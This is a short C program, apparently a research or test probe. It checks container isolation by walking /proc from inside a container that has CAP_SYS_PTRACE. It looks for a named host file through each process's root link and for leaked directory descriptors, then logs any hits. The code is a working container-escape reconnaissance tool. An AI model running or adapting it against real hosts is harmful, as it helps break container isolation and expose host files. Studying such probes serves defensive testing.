// What a container with CAP_SYS_PTRACE tries while others exec into it: the file argv[1] of the host through the root of
// every process that it sees, and folders behind their descriptors. A hit is written to /hits.
#include <dirent.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

static void hit(const char *what) {
    int log = open("/hits", O_WRONLY | O_CREAT | O_APPEND, 0644);
    dprintf(log, "%s\n", what);
    close(log);
}

static void look(const char *process, const char *secret) {
    char path[4096];
    snprintf(path, sizeof path, "/proc/%s/root%s", process, secret);
    if (access(path, F_OK) == 0) hit(path);
    for (int number = 3; number < 16; number++) {
        snprintf(path, sizeof path, "/proc/%s/fd/%d", process, number);
        int folder = open(path, O_RDONLY | O_DIRECTORY | O_NONBLOCK);
        if (folder < 0) continue;
        hit(path);
        close(folder);
    }
}

int main(int count, char **arguments) {
    if (count < 2) return 2;
    for (;;) {
        DIR *all = opendir("/proc");
        if (!all) return 1;
        for (struct dirent *entry; (entry = readdir(all));)
            if (atoi(entry->d_name) > 1) look(entry->d_name, arguments[1]);
        closedir(all);
    }
}
